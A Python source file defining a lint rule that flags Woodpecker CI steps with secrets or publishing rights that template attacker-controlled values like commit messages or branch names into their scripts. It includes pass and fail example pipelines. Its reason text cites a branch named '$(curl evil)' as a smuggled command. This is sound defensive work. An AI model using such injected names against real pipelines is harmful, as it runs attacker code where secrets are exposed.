"""No text that a stranger chooses becomes part of a script that holds a secret or publishes."""

from collections.abc import Iterator

from doctor.ci import CiStep, unread
from doctor.repo import Repo
from doctor.rule import Example, Level, Rule, pipeline
from doctor.verdict import Evidence, Status, Verdict, failed, not_applicable, passed, unknown
from doctor.woodpecker.events import from_strangers


def check(repo: Repo) -> Verdict:
    publishing = {
        id(step.of.step) for step in repo.step_runs if step.run.mutations or step.run.gave_up
    }
    guarded = 0
    found: list[Evidence] = []
    for one in repo.ci_steps:
        if one.step.secrets or id(one.step) in publishing:
            guarded += 1
            found += _untrusted(one)
    if found:
        return failed(found[0].note, *found)
    if unseen := unread(repo):
        return unknown("not every pipeline can be read", *unseen)
    if not guarded:
        return not_applicable("no step holds a secret or publishes")
    return passed("no step that holds a secret or publishes has a stranger's text in its script")


def _untrusted(one: CiStep) -> Iterator[Evidence]:
    """The places in the commands where such a text is filled in."""
    workflow = one.workflow
    for scalar in one.step.commands or ():
        for line in scalar.text.split("\n"):
            if line.lstrip().startswith("#"):
                continue
            for expression in workflow.template.expressions(line):
                for name in expression.names:
                    if from_strangers(name):
                        what = f"{one.name} has ${{{name}}} filled into its script"
                        yield Evidence(workflow.place_of(expression), what)


_STEP = """\
when:
  - event: tag
steps:
  - name: publish
    image: nixos/nix
    environment:
      REGISTRY_TOKEN:
        from_secret: registry_token
    commands:
      - {command}
      - PUBLISH=1 nix run .#publish
"""

RULE = Rule(
    name="ci-untrusted-text",
    level=Level.REQUIRED,
    reason="The server puts ${CI_…} into the script as text, before a shell reads it: a branch "
    "called `$(curl evil)` is a command.",
    remedy='Let the shell expand it: "$CI_COMMIT_TAG" instead of ${CI_COMMIT_TAG}, or '
    '"$${CI_COMMIT_TAG#v}".',
    check=check,
    examples=(
        Example(
            "the shell expands it",
            pipeline(_STEP.format(command="""'echo "$CI_COMMIT_MESSAGE" "$${CI_COMMIT_TAG#v}"'""")),
            Status.PASS,
        ),
        Example(
            "what the server makes itself",
            pipeline(_STEP.format(command="echo ${CI_COMMIT_SHA:0:8} ${CI_PIPELINE_NUMBER}")),
            Status.PASS,
        ),
        Example(
            "no secret, and nothing is published",
            pipeline(
                "steps:\n  - name: x\n    image: y\n    commands: echo ${CI_COMMIT_MESSAGE}\n"
            ),
            Status.NOT_APPLICABLE,
        ),
        Example(
            "the message of a commit",
            pipeline(_STEP.format(command="""'echo "${CI_COMMIT_MESSAGE}"'""")),
            Status.FAIL,
        ),
        Example(
            "the name of a tag, without its v",
            pipeline(_STEP.format(command="echo ${CI_COMMIT_TAG##v}")),
            Status.FAIL,
        ),
        Example(
            "as a default",
            pipeline(_STEP.format(command="echo ${NOTHING:-${CI_COMMIT_BRANCH}}")),
            Status.FAIL,
        ),
    ),
)
